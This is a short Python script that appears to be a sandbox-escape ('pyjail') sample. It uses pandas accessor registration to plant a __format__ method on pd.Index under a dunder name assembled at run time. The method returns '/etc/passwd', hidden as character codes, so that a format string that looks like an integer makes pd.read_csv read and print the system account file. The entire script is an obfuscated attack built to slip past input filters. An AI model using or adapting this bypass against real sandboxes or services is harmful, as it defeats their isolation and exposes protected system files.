# source: pandas extension docs (register_*_accessor) + pyjail "dunder hijack" idea; pandas/core/accessor.py CachedAccessor does setattr(cls, name, ...)
# family: pandas accessor registration under a run-time-built dunder name (setattr on a pandas class by computed name)
# goal: give pd.Index a __format__ that returns a path; "{k:03d}" is trusted as an integer -> read /etc/passwd
import pandas as pd
D = chr(95) * 2


class Fmt:
    def __init__(self, obj):
        self.obj = obj

    def __call__(self, spec):
        return "".join(map(chr, [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100]))


pd.api.extensions.register_index_accessor(D + "format" + D)(Fmt)
k = pd.Index([1])
print(pd.read_csv(f"{k:03d}", sep="\x01", header=None).to_string())
